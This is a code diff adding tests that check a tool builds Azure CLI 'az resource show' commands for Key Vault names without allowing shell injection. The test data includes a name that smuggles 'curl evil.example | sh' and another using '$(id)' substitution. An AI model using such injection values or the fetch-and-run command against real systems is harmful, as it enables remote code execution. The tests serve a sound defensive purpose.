@@ -621,3 +621,28 @@ test('a patch leaves open what it does not show, and says how to see it', () => 
     { affects: [vault], howToFind: `az resource show --ids ${vault} --query properties` },
   ]);
 });
+
+test.each([
+  ["kv'; curl evil.example | sh; '", "az resource show --ids '/subscriptions/"],
+  ['kv $(id)', "az resource show --ids '/subscriptions/"],
+  ['kv\u202e', 'Read the resource in Azure.'],
+])('a command to look at %j runs nothing else', (name, begins) => {
+  const vault = `${group}/providers/Microsoft.KeyVault/vaults/${name}`;
+  const patch = { properties: { networkAcls: { defaultAction: 'Allow' } } };
+  const { gaps } = read(
+    resource('azapi_update_resource.kv', {
+      type: 'Microsoft.KeyVault/vaults',
+      dialect: 'arm',
+      whole: false,
+      action: 'update',
+      id: vault,
+      before: patch,
+      after: patch,
+    }),
+  );
+  const [gap] = gaps;
+  expect(gap?.howToFind.startsWith(begins)).toBe(true);
+  // Outside of single quotes no shell finds anything to expand.
+  const outside = gap?.howToFind.replace(/'[^']*'|\\'/g, '') ?? '';
+  expect(outside).not.toMatch(/[;|$`&<>]/);
+});
